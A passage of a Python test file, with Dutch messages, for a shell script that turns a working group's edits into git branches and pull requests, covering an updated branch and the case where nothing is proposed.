    (other / "waaiers" / "nieuw.yml").write_text("slug: nieuw\neigenaar: aangevuld door de werkgroep\n", encoding="utf-8")
    _git(other, "-c", "user.name=Lid", "-c", "user.email=lid@example.org", "commit", "--quiet", "-am", "Aangevuld", env=env)
    _git(other, "push", "--quiet", "origin", "HEAD:kompaswaaier/issue-12", env=env)
    assert script("voorstel.sh", "bewerkt", env=env, cwd=work).stdout == "true\n"


def test_nothing_to_propose_means_no_branch(repo: tuple[Path, dict[str, str]]) -> None:
    work, env = repo
    out = work.parent / "uit"
    out.mkdir()
    (out / "antwoord.md").write_text("Dank je wel.\n", encoding="utf-8")
    result = script("voorstel.sh", "indienen", str(out), env=env, cwd=work)
    assert (result.returncode, result.stdout) == (0, "Geen bestand gemaakt, dus geen tak en geen pull request.\n")
    assert calls(env) == []
    assert _git(work.parent / "origin.git", "branch", "--list", "kompaswaaier/*", env=env) == ""
